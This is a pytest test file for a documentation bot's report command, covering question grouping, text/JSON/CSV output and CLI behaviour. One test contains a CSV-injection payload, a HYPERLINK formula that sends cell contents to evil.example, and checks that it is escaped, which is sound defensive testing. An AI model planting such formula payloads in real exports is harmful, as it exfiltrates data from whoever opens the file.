"""The doc owners' report on a seeded history: grouping, ordering, formats, CLI."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest

from bot.__main__ import main
from bot.report import build_report, parse_since, render_report
from bot.store import Record, open_store

SEED = [
    # (entry, question, decision, section)
    ("slash", "what is the wifi password", "decline", None),
    ("mention", "whats the wifi pasword?", "decline", None),
    ("dm", "wifi password please", "decline", None),
    ("slash", "how do I file expenses", "decline", "DevOps > The Manager"),
    ("dm", "how to file my expenses", "suggest", "DevOps > The Manager"),
    ("slash", "coach", "answer", "DevOps > The Coach"),
    ("slash", "who trains people", "answer", "DevOps > The Coach"),
    ("cli", "sys admin", "answer", "DevOps > The System Administrator"),
    ("mention", "security", "answer", "DevOps > The Security Expert"),
]


@pytest.fixture
def seeded(tmp_path):
    """A SQLite history with the SEED questions and some votes."""
    store = open_store(None, tmp_path)
    now = time.time()
    for n, (entry, q, decision, section) in enumerate(SEED):
        store.record(Record(f"q{n}", now - 3600, entry, q, decision, None, section,
                            80, 0.4, store.user_hash("U1")))  # fmt: skip
    store.record(Record("old", now - 40 * 86400, "slash", "ancient", "decline", None, None,
                        0, 0.4, None))  # fmt: skip
    store.vote("q5", "a", "not_helpful")
    store.comment("q5", "a", "no example of a training plan")
    store.vote("q5", "b", "not_helpful")
    store.vote("q6", "a", "not_helpful")
    store.vote("q7", "a", "helpful")
    store.vote("q8", "a", "not_helpful")
    return store, tmp_path


def test_report_groups_and_orders(seeded):
    """Same-meaning unanswered questions are one group, most frequent first, with near-miss."""
    store, _ = seeded
    since = parse_since("30d")
    report = build_report(store.history(time.time() - since), since_seconds=since)
    assert report["questions"] == len(SEED)  # the 40-day-old one is outside --since
    groups = report["unanswered"]
    assert [g["count"] for g in groups] == [3, 2]
    assert "wifi" in groups[0]["question"] and groups[0]["near_miss"] is None
    assert "expenses" in groups[1]["question"]
    assert groups[1]["near_miss"] == "DevOps > The Manager"
    assert report["not_helpful"][0] == {
        "section": "DevOps > The Coach", "votes": 3,
        "comments": ["no example of a training plan"]}  # fmt: skip
    assert report["most_asked"][0] == {"section": "DevOps > The Coach", "count": 2}
    assert report["by_entry"]["slash"] == {"questions": 4, "answered": 2, "answer_rate": 50.0}
    assert report["by_entry"]["cli"]["answer_rate"] == 100.0


def test_report_formats(seeded):
    """text, json and csv carry the same figures."""
    store, _ = seeded
    report = build_report(store.history(0), since_seconds=parse_since("90d"))
    text = render_report(report, "text")
    assert "Answer rate by entry point" in text and "3 x what is the wifi password" in text
    assert json.loads(render_report(report, "json"))["questions"] == len(SEED) + 1
    rows = list(csv.reader(io.StringIO(render_report(report, "csv"))))
    assert rows[0] == ["kind", "item", "count", "detail"]
    assert ["not_helpful", "DevOps > The Coach", "3", "no example of a training plan"] in rows


def test_report_csv_cells_typed_as_formulas_open_as_text(tmp_path):
    """A question or comment typed as a spreadsheet formula (CSV injection) is written with a
    leading quote, so a doc owner opening the CSV in a spreadsheet does not run it."""
    store = open_store(None, tmp_path)
    now = time.time()
    typed = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    store.record(Record("f1", now, "dm", typed, "decline", None, None, 0, 0.4, None))
    store.record(Record("f2", now, "dm", "coach", "answer", None, "DevOps > The Coach", 90, 0.4,
                        None))  # fmt: skip
    store.vote("f2", "a", "not_helpful")
    store.comment("f2", "a", "@SUM(1+1)")
    report = build_report(store.history(0), since_seconds=parse_since("1d"))
    rows = list(csv.reader(io.StringIO(render_report(report, "csv"))))
    assert ["unanswered", "'" + typed, "1", ""] in rows
    assert ["not_helpful", "DevOps > The Coach", "1", "'@SUM(1+1)"] in rows
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_report_cli(seeded):
    """`report --since 30d --format json` reads DATA_DIR; a bad --since exits 2."""
    _, data_dir = seeded
    out, err = io.StringIO(), io.StringIO()
    env = {"DATA_DIR": str(data_dir)}
    code = main(["report", "--since", "30d", "--format", "json"], environ=env, stdout=out,
                stderr=err)  # fmt: skip
    report = json.loads(out.getvalue())
    assert code == 0 and report["questions"] == len(SEED)
    assert report["database"] == str(data_dir / "history.sqlite3")
    code = main(["report", "--since", "soon"], environ=env, stdout=out, stderr=err)
    assert code == 2 and "--since" in err.getvalue()


def test_cli_questions_are_recorded(tmp_path):
    """`ask --record` records its questions (entry cli) for the report."""
    env = {"DATA_DIR": str(tmp_path)}
    out = io.StringIO()
    main(["ask", "--record", "coach"], environ=env, stdout=out, stderr=io.StringIO())
    main(["ask", "--record", "what's the wifi password"], environ=env, stdout=out,
         stderr=io.StringIO())  # fmt: skip
    rows = open_store(None, tmp_path).history(0)
    assert [(r["entry"], r["decision"]) for r in rows] == [("cli", "answer"), ("cli", "decline")]


def test_a_picked_section_is_not_a_question_but_a_phrasing_hint(tmp_path):
    """A section picked from buttons is listed with the question it answered, and counts
    neither as a question nor as unanswered."""
    from bot.report import report_text

    store = open_store(None, tmp_path)
    now = time.time()
    store.record(Record("q", now, "dm", "who keeps servers up", "hedged", None,
                        "DevOps > The System Administrator", 59, 0.4, None))  # fmt: skip
    store.record(Record("p", now, "dm", "who keeps servers up", "picked", None,
                        "DevOps > The Manager", 31, 0.0, None))  # fmt: skip
    report = build_report(store.history(0), since_seconds=86400)
    assert report["questions"] == 1 and report["unanswered"] == []
    assert report["by_entry"]["dm"]["answered"] == 1  # a best guess shows a section
    text = report_text(report)
    picked = text.split("Sections picked from the buttons")[1].splitlines()[1]
    assert "who keeps servers up" in picked and "DevOps > The Manager" in picked
